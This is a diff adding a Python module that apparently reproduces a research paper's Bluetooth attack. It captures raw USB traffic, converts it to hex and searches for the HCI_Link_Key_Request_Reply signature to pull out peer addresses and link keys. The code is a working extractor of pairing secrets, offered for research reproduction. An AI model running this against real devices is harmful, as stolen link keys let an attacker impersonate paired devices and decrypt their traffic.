@@ -1,0 +1,83 @@
+"""USB-sniff link key extraction (paper §VI-B1, Fig. 11).
+
+The Windows/CSR systems provide no HCI dump, so the paper sniffs the
+USB bus instead.  Their pipeline, reproduced here:
+
+1. Capture raw USB transfer records (``UsbSniffer.raw_stream()``).
+2. Convert the binary stream to an ASCII hex string — a Python port of
+   the authors' *BinaryToHex* converter.
+3. Search the hex text for ``0b 04 16``: little-endian opcode 0x040B
+   (HCI_Link_Key_Request_Reply) followed by the constant parameter
+   length 0x16.  The six bytes after the signature are the peer
+   BD_ADDR (little-endian) and the next sixteen are the link key
+   (little-endian; the paper reads it back in big-endian order).
+"""
+
+from __future__ import annotations
+
+from typing import List, Union
+
+from repro.core.types import BdAddr, LinkKey
+from repro.snoop.extractor import LinkKeyFinding
+from repro.transport.usb import UsbSniffer
+
+_SIGNATURE = "0b0416"
+
+
+def bin2hex(raw: bytes, group: int = 1, line_width: int = 16) -> str:
+    """Binary stream → ASCII hex text (the authors' converter [27]).
+
+    ``group`` bytes are joined without spaces; groups are separated by
+    a space and lines wrap every ``line_width`` bytes, mimicking the
+    classic hex-dump text the authors grepped through.
+    """
+    if group < 1 or line_width < group:
+        raise ValueError("invalid grouping")
+    pieces: List[str] = []
+    line: List[str] = []
+    for offset in range(0, len(raw), group):
+        line.append(raw[offset : offset + group].hex())
+        if (offset + group) % line_width == 0:
+            pieces.append(" ".join(line))
+            line = []
+    if line:
+        pieces.append(" ".join(line))
+    return "\n".join(pieces)
+
+
+def scan_hex_for_link_keys(hex_text: str) -> List[LinkKeyFinding]:
+    """Search hex text for the ``0b 04 16`` signature and decode hits."""
+    compact = "".join(hex_text.split()).lower()
+    findings: List[LinkKeyFinding] = []
+    start = 0
+    while True:
+        index = compact.find(_SIGNATURE, start)
+        if index == -1:
+            break
+        start = index + 2
+        # Signatures must be byte-aligned in the hex text.
+        if index % 2 != 0:
+            continue
+        body = compact[index + len(_SIGNATURE) :]
+        if len(body) < (6 + 16) * 2:
+            continue
+        addr_hex = body[:12]
+        key_hex = body[12 : 12 + 32]
+        findings.append(
+            LinkKeyFinding(
+                frame=len(findings) + 1,
+                timestamp=0.0,
+                source="USB_sniff(0b 04 16)",
+                peer=BdAddr.from_hci_bytes(bytes.fromhex(addr_hex)),
+                link_key=LinkKey.from_hci_bytes(bytes.fromhex(key_hex)),
+            )
+        )
+    return findings
+
+
+def extract_link_keys_from_usb(
+    capture: Union[UsbSniffer, bytes]
+) -> List[LinkKeyFinding]:
+    """Full pipeline: raw USB stream → hex text → signature scan."""
+    raw = capture.raw_stream() if isinstance(capture, UsbSniffer) else bytes(capture)
+    return scan_hex_for_link_keys(bin2hex(raw))
